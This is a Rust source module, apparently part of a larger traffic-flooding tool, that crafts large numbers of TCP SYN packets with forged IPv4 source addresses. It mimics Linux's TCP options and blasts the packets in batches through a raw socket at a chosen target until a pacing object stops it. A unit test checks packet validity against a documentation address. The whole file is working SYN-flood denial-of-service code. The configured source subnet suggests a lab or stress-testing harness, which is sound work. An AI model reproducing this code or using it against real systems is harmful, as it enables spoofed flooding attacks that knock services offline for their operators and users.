//! SYNs through a raw socket, from sources that do not exist.

use std::io::IoSlice;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd as _;
use std::thread::sleep;
use std::time::Duration;

use etherparse::{PacketBuilder, TcpOptionElement};
use nix::errno::Errno;
use nix::sys::socket::{MsgFlags, MultiHeaders, SockaddrIn, sendmmsg};
use socket2::{Domain, Protocol, Socket, Type};

use super::pace::Pace;
use super::{FloodError, SOURCES};

/// Packets that are made beforehand; then they come again.
const PACKETS: usize = 1 << 17;
/// Packets a system call.
const BATCH: usize = 64;
/// `IPPROTO_RAW`: the packet brings its own header.
const RAW: i32 = nix::libc::IPPROTO_RAW;

/// All packets.
pub(super) fn packets(target: SocketAddrV4) -> Result<Vec<Vec<u8>>, FloodError> {
    (0..PACKETS).map(|_| packet(target)).collect()
}

/// Floods until `pace` says that it is over.
pub(super) fn flood(target: SocketAddrV4, packets: &[Vec<u8>], pace: &Pace) -> Result<(), FloodError> {
    let slices: Vec<[IoSlice<'_>; 1]> = packets.iter().map(|packet| [IoSlice::new(packet)]).collect();
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))?;
    socket.connect(&target.into())?;
    let mut headers = MultiHeaders::<SockaddrIn>::preallocate(BATCH, None);
    let mut sent = 0;
    for batch in slices.chunks(BATCH).cycle() {
        loop {
            match pace.due(sent) {
                None => return Ok(()),
                Some(due) if due >= BATCH as u64 => break,
                Some(_) => sleep(Duration::from_micros(200)),
            }
        }
        match sendmmsg(socket.as_raw_fd(), &mut headers, batch, [None; BATCH], [], MsgFlags::empty()) {
            // A queue that is full is the flood's to fill.
            Ok(_) | Err(Errno::ENOBUFS) => sent += BATCH as u64,
            Err(error) => return Err(std::io::Error::from(error).into()),
        }
    }
    Ok(())
}

/// A SYN as Linux sends it, from anywhere but where sockets are.
fn packet(target: SocketAddrV4) -> Result<Vec<u8>, FloodError> {
    let hosts = 1u32 << (32 - SOURCES.1);
    let source = Ipv4Addr::from_bits(SOURCES.0.to_bits() + fastrand::u32(hosts / 2..hosts));
    let options = [
        TcpOptionElement::MaximumSegmentSize(1460),
        TcpOptionElement::SelectiveAcknowledgementPermitted,
        TcpOptionElement::Timestamp(fastrand::u32(..), 0),
        TcpOptionElement::Noop,
        TcpOptionElement::WindowScale(7),
    ];
    let builder = PacketBuilder::ipv4(source.octets(), target.ip().octets(), 64).tcp(
        fastrand::u16(1024..),
        target.port(),
        fastrand::u32(..),
        64_240,
    );
    let builder = builder.syn().options(&options).map_err(std::io::Error::other)?;
    let mut packet = Vec::with_capacity(builder.size(0));
    builder.write(&mut packet, &[])?;
    Ok(packet)
}

#[cfg(test)]
mod tests {
    use etherparse::{SlicedPacket, TransportSlice};

    use super::super::POOL;
    use super::*;

    #[test]
    fn a_packet_is_a_whole_syn_for_the_target_from_a_source_without_a_socket() {
        let target = SocketAddrV4::new(Ipv4Addr::new(192, 0, 2, 1), 8443);
        let packet = packet(target).unwrap();
        let sliced = SlicedPacket::from_ip(&packet).unwrap();
        let Some(etherparse::NetSlice::Ipv4(ip)) = &sliced.net else { panic!("IPv4") };
        let Some(TransportSlice::Tcp(tcp)) = &sliced.transport else { panic!("TCP") };
        assert_eq!(ip.header().destination_addr(), *target.ip());
        assert_eq!(ip.header().to_header().calc_header_checksum(), ip.header().header_checksum());
        assert_ne!(ip.header().source_addr().octets()[..2], POOL.0.octets()[..2]);
        assert!(tcp.syn() && !tcp.ack() && tcp.destination_port() == 8443);
        assert_eq!(
            tcp.calc_checksum_ipv4(ip.header().source(), ip.header().destination()).unwrap(),
            tcp.checksum()
        );
    }
}
